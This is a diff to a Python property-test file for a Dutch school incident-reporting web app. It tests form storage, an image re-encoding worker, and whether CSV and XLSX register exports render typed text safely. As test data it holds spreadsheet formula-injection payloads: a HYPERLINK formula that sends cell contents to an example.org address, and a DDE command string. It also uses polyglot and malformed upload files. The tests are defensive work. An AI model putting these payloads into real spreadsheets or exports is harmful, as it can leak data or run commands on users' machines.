@@ -30,6 +30,7 @@ from hypothesis import HealthCheck, event, given, settings
 from hypothesis import strategies as st
 from PIL import Image
 
+from incidents import services as incident_services
 from incidents.forms import FIELD_FORMS, RECORD_FORMS
 from incidents.models import Evidence, Incident
 from portal.models import PersonKind, Role
@@ -69,6 +70,8 @@ short_texts = st.one_of(
 long_texts = st.tuples(st.sampled_from([101, 201, 301, 501, 2001, 5001, 19_999, 20_000, 20_001, 60_000]),
                        st.sampled_from(["a", "é", "😀", "مر", "x\x0b"])).map(lambda t: (t[1] * t[0])[: t[0]])
 texts = st.one_of(short_texts, short_texts, long_texts)
+# Text a form keeps: no NUL, something besides whitespace. Emoji, right-to-left and control characters included.
+storable_texts = short_texts.filter(lambda text: "\x00" not in text and text.strip())
 
 MISSING = object()
 
@@ -95,6 +98,11 @@ dates = st.one_of(
 )
 
 
+def recent():
+    """A moment in the past year, as the datetime-local input sends it."""
+    return st.integers(min_value=1, max_value=365 * 24).map(lambda h: local(timezone.now() - timezone.timedelta(hours=h)))
+
+
 def choices_of(values):
     return st.one_of(st.sampled_from(list(values)), st.sampled_from(list(values)), short_texts)
 
@@ -110,15 +118,24 @@ def storable(value, max_length):
     return "\x00" not in value and bool(value.strip()) and len(value.strip()) <= max_length
 
 
-def snapshot():
-    """Every row of the app's tables (history and audit log included) and the private files."""
+def snapshot(*rows):
+    """How many rows each of the app's tables has (history and audit log included), and the highest id, in one
+    query; the given model instances as they are in the database; and the private files."""
     from django.apps import apps
+    from django.db import connection
 
-    rows = {}
-    for label in ("portal", "incidents", "sanctions", "consent"):
-        for model in apps.get_app_config(label).get_models():
-            rows[model._meta.label] = list(model._base_manager.order_by("pk").values_list())
-    return rows, private_files()
+    models = [model for label in ("portal", "incidents", "sanctions", "consent")
+              for model in apps.get_app_config(label).get_models()]
+    quote = connection.ops.quote_name
+    sql = " UNION ALL ".join(
+        f"SELECT {index}, COUNT(*), COALESCE(MAX({quote(model._meta.pk.column)}), 0) FROM {quote(model._meta.db_table)}"
+        for index, model in enumerate(models)
+    )
+    with connection.cursor() as cursor:
+        cursor.execute(sql)
+        counts = {models[index]._meta.label: (count, top) for index, count, top in cursor.fetchall()}
+    current = {f"{row._meta.label} {row.pk}": list(row.__class__.objects.filter(pk=row.pk).values_list()) for row in rows}
+    return {**counts, **current}, private_files()
 
 
 def changed_tables(before, after):
@@ -159,7 +176,17 @@ link_lists = st.lists(
     max_size=3,
 ).map("\n".join)
 
-report_posts = st.fixed_dictionaries({
+plausible_reports = st.fixed_dictionaries({
+    "school": st.just("own"),
+    "category": st.sampled_from(CATEGORIES),
+    "platform": st.sampled_from(PLATFORMS),
+    "description": storable_texts,
+    "discovered_at": recent(),
+    "privacy_flag": st.sampled_from(["on", ""]),
+    "links": st.lists(st.sampled_from(["https://www.instagram.com/p/abc/", "http://voorbeeld.nl/😀", "https://bücher.example/",
+                                       "https://example.org/?q=‮exe"]), max_size=2).map("\n".join),
+})
+chaotic_reports = st.fixed_dictionaries({
     "school": maybe_missing(st.one_of(st.just("own"), st.just("foreign"), short_texts)),
     "category": maybe_missing(choices_of(CATEGORIES)),
     "platform": maybe_missing(choices_of(PLATFORMS)),
@@ -169,6 +196,7 @@ report_posts = st.fixed_dictionaries({
     "privacy_flag": maybe_missing(st.sampled_from(["on", "", "false", "0", "ja", "\x00"])),
     "links": maybe_missing(link_lists),
 })
+report_posts = st.one_of(plausible_reports, chaotic_reports)
 
 
 @pytest.fixture
@@ -190,7 +218,7 @@ def test_the_report_form_stores_exactly_what_was_typed_or_nothing(reporter_clien
         event(f"status {response.status_code}")
         assert response.status_code in (200, 302, 400)
         if response.status_code == 302:
-            incident = Incident.objects.exclude(pk__in=[row[0] for row in before[0]["incidents.Incident"]]).get()
+            incident = Incident.objects.get(pk__gt=before[0]["incidents.Incident"][1])
             assert incident.school == school
             assert incident.description == data["description"].strip()
             assert (incident.category, incident.platform) == (data["category"], data["platform"])
@@ -254,9 +282,33 @@ def field_values(field):
     raise AssertionError(f"no strategy for {field!r}")
 
 
+def plausible_values(field):
+    """A value the field takes, with the text drawn from storable_texts."""
+    if isinstance(field, forms.ModelChoiceField):
+        ids = [str(pk) for pk in field.queryset.values_list("pk", flat=True)]
+        return st.sampled_from(ids) if ids else st.just(MISSING)
+    if isinstance(field, forms.NullBooleanField):
+        return st.sampled_from(["true", "false"])
+    if isinstance(field, forms.BooleanField):
+        return st.sampled_from(["on", ""])
+    if isinstance(field, forms.ChoiceField):
+        return st.sampled_from([value for value, _label in field.choices if value != ""])
+    if isinstance(field, forms.DateTimeField):
+        return recent()
+    if isinstance(field, forms.URLField):
+        return st.sampled_from(["https://www.tiktok.com/@x/video/1", "https://bücher.example/😀"])
+    if isinstance(field, forms.CharField):
+        limit = field.max_length or 20_000
+        return storable_texts.filter(lambda text: len(text.strip()) <= limit)
+    raise AssertionError(f"no strategy for {field!r}")
+
+
 def record_posts(form):
-    return st.fixed_dictionaries(
-        {form.add_prefix(name): maybe_missing(field_values(field)) for name, field in form.fields.items()}
+    """Either every field filled in plausibly, or anything at all in any field."""
+    fields = form.fields.items()
+    return st.one_of(
+        st.fixed_dictionaries({form.add_prefix(name): plausible_values(field) for name, field in fields}),
+        st.fixed_dictionaries({form.add_prefix(name): maybe_missing(field_values(field)) for name, field in fields}),
     )
 
 
@@ -282,7 +334,7 @@ def test_a_record_form_stores_exactly_what_was_typed_or_nothing(client, leader, 
         data = without_missing(post)
 
         def example():
-            before = snapshot()
+            before = snapshot(incident)
             response = client.post(url, data)
             event(f"status {response.status_code}")
             assert response.status_code in (302, 400), response.status_code
@@ -290,12 +342,11 @@ def test_a_record_form_stores_exactly_what_was_typed_or_nothing(client, leader, 
                 if kind in FIELD_FORMS:
                     stored = Incident.objects.get(pk=incident.pk)
                 else:
-                    known = [row[0] for row in before[0][model._meta.label]]
-                    stored = model.objects.exclude(pk__in=known).get()
+                    stored = model.objects.get(pk__gt=before[0][model._meta.label][1])
                 for name in text_fields:
                     assert getattr(stored, name) == data.get(form.add_prefix(name), "").strip(), name
             else:
-                assert not changed_tables(before, snapshot()), "a refused record left something behind"
+                assert not changed_tables(before, snapshot(incident)), "a refused record left something behind"
                 for name in text_fields:
                     typed = data.get(form.add_prefix(name), "")
                     if typed.strip() and "\x00" not in typed:
@@ -304,6 +355,60 @@ def test_a_record_form_stores_exactly_what_was_typed_or_nothing(client, leader, 
         rolled_back(example)
 
     check()
+
+
+# What was stored comes out of the registers as typed -------------------------------------------------------
+
+formula_texts = st.sampled_from([
+    '=HYPERLINK("https://example.org/?d="&A1,"Klik")', "=1+1", "=cmd|' /C calc'!A0", "+31 6 12345678", "-2+3", "@SUM(A1:A2)",
+])
+
+
+def csv_cells(response):
+    import csv
+
+    text = b"".join(response.streaming_content).decode("utf-8-sig")
+    return list(csv.reader(io.StringIO(text, newline=""), delimiter=";"))
+
+
+def xlsx_cells(response):
+    from openpyxl import load_workbook
+
+    sheet = load_workbook(io.BytesIO(b"".join(response.streaming_content))).worksheets[0]
+    return [[cell for cell in row] for row in sheet.iter_rows()]
+
+
+@MODEST
+@given(texts=st.lists(st.one_of(storable_texts.filter(lambda text: len(text.strip()) <= 100), formula_texts),
+                      min_size=3, max_size=3))
+def test_typed_text_is_exported_as_text_and_never_as_a_formula(client, leader, case_world, texts):
+    """A police report's texts in the police register: in the CSV as typed (a formula start gets a quote), in
+    the XLSX as text cells (without the control characters a worksheet cannot hold)."""
+    from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE
+
+    from portal.exports import CSV_FORMULA_STARTS
+
+    reference, contact, note = (text.strip() for text in texts)
+    client.force_login(leader)
+
+    def example():
+        response = client.post(reverse("incidents:record", args=[case_world.pk, "police_report"]), {
+            "police_report-filed_by": "school", "police_report-filed_at": local(timezone.now() - timezone.timedelta(hours=2)),
+            "police_report-police_reference": texts[0], "police_report-police_contact": texts[1],
+            "police_report-note": texts[2],
+        })
+        assert response.status_code == 302
+        header, row = csv_cells(client.get("/aangiften/?export=csv"))
+        for typed in (reference, contact, note):
+            assert ("'" + typed if typed.startswith(CSV_FORMULA_STARTS) else typed) in row, typed
+        header, row = xlsx_cells(client.get("/aangiften/?export=xlsx"))
+        cells = {cell.value: cell.data_type for cell in row}
+        for typed in (reference, contact, note):
+            shown = ILLEGAL_CHARACTERS_RE.sub("", typed)
+            if shown:
+                assert cells.get(shown) == "s", (typed, cells)
+
+    rolled_back(example)
 
 
 # The upload path -------------------------------------------------------------------------------------------
@@ -394,7 +499,8 @@ upload_contents = st.one_of(
     polyglots(),
     truncated(),
     mutated(),
-    st.builds(claimed_png, st.sampled_from([100_000, 65_535, 20_000, 7_000]), st.sampled_from([100_000, 65_535, 20_000, 7_000])),
+    # Far beyond the pixel limit, and (intact chunks, too little pixel data) within it.
+    st.builds(claimed_png, st.sampled_from([100_000, 65_535, 20_000, 7_000, 300]), st.sampled_from([100_000, 65_535, 20_000, 7_000, 200])),
     st.just(b""),
     st.binary(max_size=512),
     st.sampled_from([b"GIF89a", b"\x89PNG\r\n\x1a\n", b"\xff\xd8\xff", b"%PDF-", b"\x7fELF\x02\x01\x01" + b"\x00" * 64]),
@@ -445,7 +551,7 @@ def test_upload_clean_gives_a_clean_picture_or_a_dutch_refusal(content, name):
 
 
 @MODEST
-@given(contents=st.lists(upload_contents, min_size=1, max_size=3), name=upload_names)
+@given(contents=st.lists(st.one_of(images, polyglots(), upload_contents), min_size=1, max_size=2), name=upload_names)
 def test_the_report_form_stores_clean_files_or_nothing(reporter_client, school, contents, name):
     data = {
         "school": school.pk, "category": "identity_fraud", "platform": "instagram",
@@ -464,11 +570,26 @@ def test_the_report_form_stores_clean_files_or_nothing(reporter_client, school, 
             assert not Evidence.objects.exists()
             assert shows_again(response, data["description"])
             return
-        incident = Incident.objects.exclude(pk__in=[row[0] for row in before[0]["incidents.Incident"]]).get()
+        incident = Incident.objects.get(pk__gt=before[0]["incidents.Incident"][1])
         stored = list(incident.evidence.order_by("pk"))
         assert len(stored) == len(contents)
         assert len(private_files() - before[1]) == len(contents)
+        kept = []
         for evidence, original in zip(stored, contents):
+            url = reverse("incidents:evidence_file", args=[evidence.token])
+            if not evidence.processed:  # an image waits for the worker that re-encodes it, and is not served before
+                raw = evidence.file.path
+                assert reporter_client.get(url).status_code == 404
+                incident_services.evidence_process(evidence_id=evidence.pk)
+                evidence.refresh_from_db()
+                assert evidence.processed
+                if not evidence.file:  # the checks passed but the picture cannot be decoded: refused on the case
+                    event("refused by the worker")
+                    assert evidence.processing_error.strip() and not os.path.exists(raw)
+                    assert reporter_client.get(url).status_code == 404
+                    continue
+            kept.append((evidence, original))
+        for evidence, original in kept:
             with evidence.file.open("rb") as handle:
                 clean = CleanUpload(content=SimpleUploadedFile(evidence.file.name, handle.read()),
                                     content_type=evidence.content_type, original_name=evidence.original_name,
